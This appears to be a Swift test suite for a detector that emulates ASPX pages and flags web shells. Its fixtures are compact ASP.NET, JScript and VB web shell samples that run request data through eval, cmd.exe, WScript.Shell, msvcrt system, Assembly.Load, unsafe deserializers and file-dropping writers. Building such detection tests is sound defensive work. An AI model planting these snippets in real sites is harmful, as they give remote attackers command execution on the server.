import Emulation
import Testing

@testable import ScriptEmulation

@Suite struct ASPXEmulatorTests {
  static func strong(_ page: String) -> Set<Predicate> {
    let result = ASPXEmulator().run(Array(page.utf8), context: EmulationContext(path: "/www/x.aspx"))
    return Set(result.proofs.map(\.predicate).filter(\.isStrong))
  }

  @Test(arguments: [
    ("JScript", "<%@ Page Language=\"Jscript\"%><% eval(Request.Item[\"a\"], \"unsafe\"); %>"),
    (
      "JScript, put together",
      "<%@ Page Language=\"Jscript\"%><% var p = \"ev\" + \"al(Request.Item['a'])\"; eval(p, \"un\" + \"safe\"); %>"
    ),
    (
      "service in JScript",
      "<%@ WebService Language=\"JScript\" class=\"A\"%>import System; public class A extends WebService { WebMethodAttribute function Go(v : String) : Void { eval(v); } }"
    ),
    (
      "style sheet",
      "<xsl:stylesheet xmlns:msxsl=\"urn:schemas-microsoft-com:xslt\"><msxsl:script language=\"JScript\" implements-prefix=\"z\">"
        + "function x() { var c = System.Web.HttpContext.Current; var r = c.Request; eval(r.Item['a'], 'unsafe'); }"
        + "</msxsl:script></xsl:stylesheet>"
    ),
    (
      "script control in VB",
      "<% Set c = Server.CreateObject(\"MSScriptControl.ScriptControl.1\")\nc.ExecuteStatement(\"ev\" & \"al(request(\"\"a\"\"))\")\n%>"
    ),
  ])
  func requestDataRunsAsCode(_ name: String, _ page: String) {
    #expect(Self.strong(page).contains(.taintedCode), "\(name)")
  }

  @Test(arguments: [
    (
      "start",
      "<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request[\"c\"]); %>"
    ),
    (
      "control",
      "<script runat=\"server\" language=\"c#\">void Go(object s, EventArgs e) { ProcessStartInfo i = new ProcessStartInfo();"
        + " i.FileName = \"cmd.exe\"; i.Arguments = \"/c \" + box.Text; Process p = Process.Start(i); }</script>"
        + "<asp:TextBox id=\"box\" runat=\"server\"/>"
    ),
    (
      "this",
      "<%@ Page Language=\"C#\" %><script runat=server>void Page_Load(object s, EventArgs e) { this.Run(Request.Form[\"c\"]); } void Run(string c) { Process p = new Process(); p.StartInfo.FileName = c; p.Start(); }</script>"
    ),
    (
      "initialiser",
      "<%@ Page Language=\"C#\" %><% Process.Start(new ProcessStartInfo { FileName = \"cmd\", Arguments = Request[\"c\"] }); %>"
    ),
    (
      "handler",
      "<%@ WebHandler Language=\"C#\" Class=\"H\" %>using System; public class H : IHttpHandler { public void ProcessRequest(HttpContext context) { Process.Start(context.Request[\"c\"]); } public bool IsReusable { get { return false; } } }"
    ),
    (
      "service",
      "<%@ WebService Language=\"C#\" Class=\"S\" %>public class S : WebService { [WebMethod] public string Run(string c) { Process p = new Process(); p.StartInfo.Arguments = c; p.Start(); return \"\"; } }"
    ),
    (
      "VB",
      "<%@ Page Language=\"VB\" %><script runat=server>\nSub Go(s As Object, e As EventArgs)\nDim p As New Process()\np.StartInfo.FileName = \"cmd.exe\"\np.StartInfo.Arguments = \"/c \" & box.Text\np.Start()\nEnd Sub\n</script><asp:TextBox id=\"Box\" runat=server />"
    ),
    ("VB, component", "<%=CreateObject(\"WScript.Shell\").Exec(Request.Form(\"a\")).StdOut.ReadAll%>"),
    (
      "imported function",
      "<%@ Page Language=\"C#\" %><script runat=server>[DllImport(\"msvcrt.dll\")] public static extern int system(string c); void Page_Load(object s, EventArgs e) { system(Request[\"c\"]); }</script>"
    ),
  ])
  func requestDataRunsAsCommand(_ name: String, _ page: String) {
    #expect(Self.strong(page).contains(.taintedCommand), "\(name)")
  }

  @Test(arguments: [
    (
      "assembly",
      "<%@ Page Language=\"C#\" %><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance(\"U\"); %>"
    ),
    (
      "behind a cipher",
      "<%@ Page Language=\"C#\" %><% byte[] d = Convert.FromBase64String(Request[\"p\"]); d = new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(d, 0, d.Length); Assembly.Load(d); %>"
    ),
    (
      "by reflection",
      "<%@ Page Language=\"C#\" %><% ((Assembly)typeof(Assembly).GetMethod(\"Load\", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { Convert.FromBase64String(Request[\"p\"]) })); %>"
    ),
    (
      "compiler",
      "<%@ Page Language=\"C#\" %><% new CSharpCodeProvider().CompileAssemblyFromSource(new CompilerParameters(), Request[\"s\"]); %>"
    ),
    (
      "formatter",
      "<%@ Page Language=\"C#\" %><% new BinaryFormatter().Deserialize(new MemoryStream(Convert.FromBase64String(Request[\"s\"]))); %>"
    ),
    ("LosFormatter", "<%@ Page Language=\"C#\" %><% new LosFormatter().Deserialize(Request[\"s\"]); %>"),
  ])
  func requestDataMakesClasses(_ name: String, _ page: String) {
    #expect(Self.strong(page).contains(.taintedClass), "\(name)")
  }

  @Test(arguments: [
    (
      "data binding",
      "<%@ Page Language=\"C#\" %><asp:Repeater runat=server><ItemTemplate><%# Eval(\"Name\") %></ItemTemplate></asp:Repeater>"
    ),
    (
      "upload",
      "<%@ Page Language=\"C#\" %><script runat=server>void Up(object s, EventArgs e) { up.SaveAs(Server.MapPath(\"~/files/\") + up.FileName); }</script><asp:FileUpload id=\"up\" runat=\"server\"/>"
    ),
    ("help window", "<%@ Page Language=\"C#\" %><% Process.GetCurrentProcess(); Response.Write(Request[\"a\"]); %>"),
    (
      "log",
      "<%@ Page Language=\"C#\" %><% System.IO.File.AppendAllText(Server.MapPath(\"log.txt\"), Request[\"a\"]); %>"
    ),
    ("known type", "<%@ Page Language=\"C#\" %><% Activator.CreateInstance(Type.GetType(\"My.Page\")); %>"),
    (
      "handler",
      "<%@ WebHandler Language=\"C#\" Class=\"H\" %>public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { c.Response.Write(c.Request[\"a\"]); } }"
    ),
  ])
  func lookAlikesAreNone(_ name: String, _ page: String) {
    #expect(Self.strong(page).isEmpty, "\(name)")
  }

  @Test func codeIsWritten() {
    let page =
      "<%@ Page Language=\"C#\" %><% System.IO.File.WriteAllText(Server.MapPath(\"a.aspx\"), Request[\"t\"]); %>"
    #expect(Self.strong(page) == [.writtenCode])
    let writer =
      "<%@ Page Language=\"C#\" %><% StreamWriter w = new StreamWriter(Request[\"p\"]); w.Write(Request[\"t\"]); %>"
    #expect(Self.strong(writer) == [.writtenCode])
  }

  @Test func aDroppedPageIsRunInItsTurn() {
    let page =
      "<%@ WebHandler Language=\"C#\" Class=\"H\" %>public class H { public void ProcessRequest(HttpContext c) {"
      + " StreamWriter f = File.CreateText(c.Server.MapPath(\"r.asp\")); f.Write(\"<%execute request(\\\"a\\\")%>\"); } }"
    let result = ASPXEmulator().run(Array(page.utf8), context: EmulationContext(path: "/x.ashx"))
    #expect(result.proofs.contains { $0.predicate == .taintedCode && $0.layer == 1 })
    #expect(result.layers.first?.use == .written)
  }

  @Test func evalWithoutRestrictionsOfWhatNobodyKnowsIsHidden() {
    #expect(
      Self.strong(
        "<script runat=server language=JScript>function p(s) { var a = \"un\" + \"safe\"; return eval(s, a); }</script>"
      )
        == [.hiddenCall])
    #expect(Self.strong("<script runat=server language=JScript>function p(s) { return eval(s); }</script>").isEmpty)
  }

  @Test(arguments: [
    ("Directory.GetFiles(Request[\"d\"]);", Predicate.taintedListing),
    ("new DirectoryInfo(Request[\"d\"]).GetDirectories();", .taintedListing),
    ("Registry.LocalMachine.OpenSubKey(Request[\"k\"]);", .taintedListing),
    ("Response.Write(File.ReadAllText(Request[\"f\"]));", .taintedReading),
  ])
  func whatTheClientLists(_ code: String, _ predicate: Predicate) {
    let page = Array("<%@ Page Language=\"C#\" %><% \(code) %>".utf8)
    let result = ASPXEmulator().run(page, context: EmulationContext(path: "/www/x.aspx"))
    #expect(result.proofs.map(\.predicate) == [predicate])
    let within = "<%@ Page Language=\"C#\" %><% Directory.GetFiles(Server.MapPath(\"~/a/\" + Request[\"d\"])); %>"
    #expect(ASPXEmulator().run(Array(within.utf8), context: EmulationContext(path: "/x")).proofs.isEmpty)
  }
}
